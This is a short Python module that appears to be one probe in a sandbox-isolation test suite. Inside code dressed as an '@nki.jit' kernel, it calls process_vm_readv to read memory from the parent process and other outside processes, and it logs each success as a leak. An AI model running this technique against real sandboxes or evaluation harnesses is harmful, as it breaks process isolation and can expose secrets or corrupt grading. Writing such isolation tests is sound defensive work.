"""Attack: process_vm_readv() of the parent's and the victims' memory."""
# @@PRELUDE@@


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _an_address(pid):
    try:
        for line in read_file("/proc/%d/maps" % pid, 1 << 20).decode("latin-1").splitlines():
            if " r" in line:
                return int(line.split("-")[0], 16)
    except OSError:
        pass
    # a forked parent has our layout: the address of a libc function
    return ctypes.cast(_libc.getpid, ctypes.c_void_p).value


@nki.jit
def kernel(x):
    buf = ctypes.create_string_buffer(64)
    for pid in outside_pids():
        local = _IoVec(ctypes.cast(buf, ctypes.c_void_p), 64)
        remote = _IoVec(_an_address(pid), 64)
        r, e = sys_call("process_vm_readv", pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if r > 0 or e == _errno.EFAULT:
            R.leak("process_vm_readv of %d: %s" % (pid, "read %d bytes" % r if r > 0 else "permitted (EFAULT)"))
        else:
            R.note("process_vm_readv %d %s" % (pid, ename(e)))
    R.finish()
